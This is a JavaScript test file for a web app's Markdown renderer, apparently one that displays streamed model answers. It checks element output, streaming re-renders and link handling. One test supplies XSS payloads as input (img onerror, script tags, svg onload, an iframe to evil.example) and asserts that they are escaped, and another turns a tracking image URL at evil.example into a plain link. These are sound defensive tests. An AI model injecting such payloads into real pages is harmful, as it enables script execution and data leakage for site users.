// The page's Markdown: what marked is asked to build (DOMPurify runs in the browser; PageIT covers it there).

import test from 'node:test';
import assert from 'node:assert/strict';
import { plan, toHtml } from '../../../webapp/js/markdown.js';

const ANSWER = [
  '# Travel policy', '',
  'Book **economy** for flights under *six hours*:', '',
  '- trains first', '- then flights', '  1. nested step', '',
  '| Trip | Limit |', '|:-----|------:|', '| Domestic | 200 € |', '| Abroad | 350 € |', '',
  '```js', 'const limit = trips.map((t) => t.cost < 200);', '```', '',
  'See [the intranet](https://intranet.example/policy) and [the form][1].', '',
  '[1]: https://intranet.example/form', '',
].join('\n');

const joined = (blocks) => blocks.map((b) => b.html).join('');

test('headings, lists, tables, code and links become their HTML elements', () => {
  const html = toHtml(ANSWER);
  for (const tag of ['<h1>Travel policy</h1>', '<strong>economy</strong>', '<ul>', '<ol>', '<table>',
    '<th align="right">Limit</th>', '<td align="left">Domestic</td>', '<pre><code class="language-js">',
    '<a href="https://intranet.example/policy">', '<a href="https://intranet.example/form">']) {
    assert.ok(html.includes(tag), `${tag} in ${html}`);
  }
});

test('raw HTML from the model is text, never markup: inline, block, and split across tokens', () => {
  const xss = 'Markup: <img src=x onerror="window.__xss=\'img\'"> and <script>window.__xss=\'script\'</script>'
    + ' & &lt;b&gt;.\n\n<div onclick="steal()">\n<iframe src="https://evil.example"></iframe>\n</div>\n\n'
    + '<script>alert(1)</script>\n\n<!-- hidden --> <svg onload=alert(1)>';
  const html = toHtml(xss);
  assert.doesNotMatch(html, /<(img|script|div|iframe|svg|!--)/i, html);
  assert.match(html, /&lt;img src=x onerror=&quot;window.__xss=&#39;img&#39;&quot;&gt;/);
  assert.match(html, /<p class="raw-html">&lt;div onclick=&quot;steal\(\)&quot;&gt;/);
  // Every prefix too: a half-received tag is where a careless renderer would slip.
  for (let i = 0; i <= xss.length; i++) {
    assert.doesNotMatch(joined(plan([], xss.slice(0, i)).blocks), /<(img|script|div|iframe|svg|!--)/i, `prefix ${i}`);
  }
});

test('an image is a link to its address, so nothing loads by itself', () => {
  const html = toHtml('![chart of costs](https://evil.example/track.png?q=secret "t")');
  assert.doesNotMatch(html, /<img/);
  assert.match(html, /<a class="image-link" href="https:\/\/evil.example\/track.png\?q=secret" title="t">/);
  assert.match(html, /Image: chart of costs/);
});

test('streamed character by character, every frame shows exactly what rendering the text so far at once shows', () => {
  let previous = [];
  let rerendered = 0;
  let naive = 0;
  for (let i = 0; i <= ANSWER.length; i++) {
    const prefix = ANSWER.slice(0, i);
    const { keep, blocks } = plan(previous, prefix);
    assert.equal(joined(blocks), toHtml(prefix), `after ${i} characters`);
    assert.ok(keep <= previous.length);
    rerendered += blocks.length - keep;
    naive += blocks.length;
    previous = blocks;
  }
  // Only the growing block (and a space or definition after it) is redone, not the whole answer.
  assert.ok(rerendered * 3 < naive, `${rerendered} blocks re-rendered instead of ${naive}`);
  console.log(`[measure] ${ANSWER.length} characters one by one: ${rerendered} blocks rendered, ${naive} without reuse`);
});

test('a reference definition that arrives later re-renders the blocks that use it', () => {
  const before = plan([], 'See [the form][1].\n\n');
  assert.doesNotMatch(joined(before.blocks), /<a /);
  const after = plan(before.blocks, 'See [the form][1].\n\n[1]: https://intranet.example/form\n');
  assert.equal(after.keep, 0);
  assert.match(joined(after.blocks), /<a href="https:\/\/intranet.example\/form">the form<\/a>/);
});

test('an unclosed code fence while streaming is already a code block, and closing it keeps it one', () => {
  assert.match(toHtml('Run:\n\n```sh\nmvn verify'), /<pre><code class="language-sh">mvn verify/);
  assert.match(toHtml('Run:\n\n```sh\nmvn verify\n```\n'), /<pre><code class="language-sh">mvn verify\n<\/code><\/pre>/);
});
